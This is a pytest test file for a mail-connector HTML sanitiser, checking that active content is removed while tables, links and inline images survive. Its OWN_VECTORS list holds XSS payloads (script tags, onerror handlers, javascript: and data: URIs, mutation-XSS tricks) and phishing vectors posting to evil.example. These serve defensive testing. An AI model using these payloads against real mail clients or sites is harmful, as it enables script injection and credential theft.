"""No active content survives in mail HTML; what is harmless does. Checked by a parser other than the cleaner's."""

import json

import pytest
from selectolax.lexbor import LexborHTMLParser

from connectors.mail.parsing import parse, sanitise
from connectors.mail.parsing.html import TAGS
from tests.connectors.mail.parsing.corpus import DEVELOPMENT_MAILS, MISSING

VECTORS = DEVELOPMENT_MAILS / "xss" / "vectors.json"
OWN_VECTORS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "<a href='java\nscript:alert(1)'>x</a>", "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form action='https://evil.example'><input name=password><button>go</button></form>",
    "<p style='background:url(javascript:alert(1))'>x</p>", "<p style='width:expression(alert(1))'>x</p>",
    "<base href='https://evil.example/'>", "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<noscript><p title='</noscript><img src=x onerror=steal()>'></noscript>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>", "<object data='x.swf'></object>",
    "<template><script>alert(1)</script></template>", "<style>@import 'https://evil.example/x.css';</style>",
    "<img srcset='https://evil.example/x.png 1x'>", "<video poster='https://evil.example/x.png'></video>",
    "<table background='https://evil.example/x.png'><tr><td>x</td></tr></table>", "<a href='/logout'>x</a>",
    "<a href='//evil.example'>x</a>", "<div id=config name=config>x</div>",
    "<!--[if IE]><script>x()</script><![endif]-->",
    '<img alt="data-blocked-src=" title=" onerror=run(1) style=position:fixed x=" src="https://a.example/1.png">',
    '<img alt=" data-blocked-src=" title="https:// onerror=run(1) x=" src="https://a.example/1.png">',
    "<a title='<img data-blocked-src=' href='https://a.example/'>x</a><img src='https://a.example/1.png'>",
]  # fmt: skip
LINKS = ("http://", "https://", "mailto:", "tel:")
IMAGES = ("cid:", "data:image/png", "data:image/gif", "data:image/jpeg", "data:image/jpg", "data:image/webp")


def assert_harmless(html: str) -> None:
    body = LexborHTMLParser(html).body
    assert body is not None
    for node in body.traverse():
        if not node.is_element_node or node.tag == "body":
            continue
        assert node.tag in TAGS, html
        for name, value in node.attributes.items():
            value = (value or "").strip().lower()
            assert not name.startswith("on"), html
            assert name not in ("id", "name", "class", "srcset", "background", "poster", "action", "formaction"), html
            assert name != "href" or value.startswith(LINKS), html
            assert name != "src" or value.startswith(IMAGES), html
            assert name != "style" or not any(word in value for word in ("url(", "expression", "position", "@")), html


@pytest.mark.skipif(not VECTORS.is_file(), reason=MISSING)
def test_no_published_attack_survives() -> None:
    vectors = json.loads(VECTORS.read_text())
    assert len(vectors) == 95
    for vector in vectors:
        mail = parse(b"Content-Type: text/html; charset=utf-8\n\n" + vector["html"].encode("utf-8", "surrogatepass"))
        assert_harmless(mail.html_sanitised)


@pytest.mark.parametrize("vector", OWN_VECTORS)
def test_no_attack_survives(vector: str) -> None:
    safe = sanitise(vector).html
    assert_harmless(safe)
    assert "alert" not in safe
    assert "evil.example" not in safe


def test_formatting_tables_and_links_stay() -> None:
    html = '<table><tr><td style="color:red"><b>Total</b></td></tr></table><a href="https://shop.example/x">order</a>'
    assert sanitise(html).html == (
        '<table><tbody><tr><td style="color:red"><b>Total</b></td></tr></tbody></table>'
        '<a href="https://shop.example/x" target="_blank" rel="noopener noreferrer nofollow">order</a>'
    )


def test_remote_images_are_kept_for_later_but_not_loaded() -> None:
    safe = sanitise('<img src="https://cdn.example/logo.png" alt="Logo">')
    assert safe.html == '<img alt="Logo" data-blocked-src="https://cdn.example/logo.png">'
    assert safe.has_remote_images


def test_images_of_the_mail_itself_stay() -> None:
    safe = sanitise('<img src="cid:logo@example.org"><img src="data:image/png;base64,iVBORw0KGgo=">')
    assert safe.html == '<img src="cid:logo@example.org"><img src="data:image/png;base64,iVBORw0KGgo=">'
    assert not safe.has_remote_images


def test_beacons_go() -> None:
    assert sanitise('<p>a<img src="https://t.example/1" width="1" height="1"></p>').html == "<p>a</p>"
    assert sanitise('<p>a<img src="https://t.example/1" style="width:1px;height:1px"></p>').html == "<p>a</p>"


def test_senders_cannot_set_our_marks() -> None:
    assert not sanitise('<img data-blocked-src="https://t.example/1">').has_remote_images
    assert "data-blocked-src" not in sanitise('<img data-blocked-src="https://t.example/1">').html


def test_a_link_that_shows_another_host_names_the_real_one() -> None:
    assert "[evil.example]" in sanitise('<a href="https://evil.example/login">www.bank.example</a>').html
    assert "[" not in sanitise('<a href="https://www.bank.example/login">https://bank.example/</a>').html
    as_browsers_read_it = r'<a href="https://evil.example\@bank.example/">bank.example</a>'
    assert "[evil.example]" in sanitise(as_browsers_read_it).html
    assert "[" not in sanitise('<a href="https://www.bank.example/login">Sign in</a>').html


@pytest.mark.parametrize("style", ["position:fixed", "width:99999px", "margin-top:-500px", "background:url(https://x)"])
def test_styles_that_leave_their_place_go(style: str) -> None:
    assert sanitise(f'<p style="{style}">x</p>').html == "<p>x</p>"


def test_absurd_nesting_becomes_text() -> None:
    safe = sanitise("<div>" * 50_000 + "words").html
    assert safe.startswith("<pre>")
    assert "words" in safe
